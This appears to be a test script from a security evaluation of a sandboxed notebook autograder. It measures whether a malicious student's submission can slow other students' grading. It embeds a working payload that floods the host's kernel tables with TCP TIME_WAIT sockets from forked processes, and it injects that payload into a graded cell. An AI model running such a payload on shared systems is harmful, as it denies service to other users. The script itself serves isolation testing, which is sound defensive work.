"""a10: kernel objects a sandbox leaves in host-wide tables when it ends: TCP TIME_WAIT sockets live in the host's
one established hash (a new network namespace has no table of its own unless tcp_child_ehash_entries is set), are
charged to no memory cgroup, and are purged when the namespace is dismantled (inet_twsk_purge, a walk of the whole
hash in the host's netns cleanup worker). Mallory makes as many as her namespace allows (client closes first:
connections to 127.0.0.1..127.0.x.y from 4 processes, 25 s), then her sandbox ends; zoe and zz are graded right
after. Their seconds, and a host prober's `unshare -n true` (network namespaces are what each sandbox makes) timed
through the run, against the same class with an honest mallory."""
import sys, json, time, threading, subprocess
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
from tools.submissions import solution_text

PAYLOAD = r'''
import os, socket, time
def worker(k):
    srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("", 20000 + k)); srv.listen(1000); srv.setblocking(False)
    n = 0; end = time.time() + 25; a = 1
    while time.time() < end:
        a += 1
        dst = "127.%d.%d.%d" % (1 + k, (a >> 8) & 255, a & 255)
        for i in range(50):
            c = socket.socket()
            try:
                c.connect((dst, 20000 + k))
            except OSError:
                c.close(); break
            try:
                s, _ = srv.accept(); 
            except BlockingIOError:
                s = None
            c.close()
            if s: s.close()
            n += 1
    return n
pids = []
for k in range(4):
    pid = os.fork()
    if pid == 0:
        try:
            print("worker", k, worker(k), flush=True)
        finally:
            os._exit(0)
    pids.append(pid)
for p in pids: os.waitpid(p, 0)
tw = 0
for f in ("/proc/self/net/sockstat",):
    print(open(f).read())
'''
sol = {c.metadata.nbgrader.grade_id: solution_text(c) for c in nbformat.read(f"{CLONE}/source/ps1_memory/ps1_memory.ipynb", 4).cells
       if c.get("metadata", {}).get("nbgrader", {}).get("solution")}
def prober(stop, out):
    while not stop.is_set():
        t = time.time(); subprocess.run(["unshare", "-n", "true"]); out.append(time.time() - t); time.sleep(0.2)
for label, ov in (("honest mallory (control)", {}), ("TIME_WAIT flood", {"quiz_q1": PAYLOAD + "\n" + sol["quiz_q1"]})):
    print("=====", label, flush=True)
    stop, out = threading.Event(), []
    th = threading.Thread(target=prober, args=(stop, out)); th.start()
    d, r, sc = run_class("a10", "ps1_memory", {"mallory": ov}, controls=("aaron", "zoe", "zz"))
    stop.set(); th.join()
    rep = json.load(open(f"{d}/grading_report.json"))
    print("seconds:", {x["student"]: round(x["seconds"], 1) for x in rep})
    print("unshare -n: n=%d max %.3f s median %.3f s" % (len(out), max(out), sorted(out)[len(out) // 2]))
    if ov:
        nb = nbformat.read(f"{d}/autograded/mallory/ps1_memory/ps1_memory.ipynb", 4)
        for c in nb.cells:
            if c.metadata.get("nbgrader", {}).get("grade_id") == "quiz_q1":
                print("mallory's cell said:", "".join(o.get("text", "") for o in c.outputs)[:800])
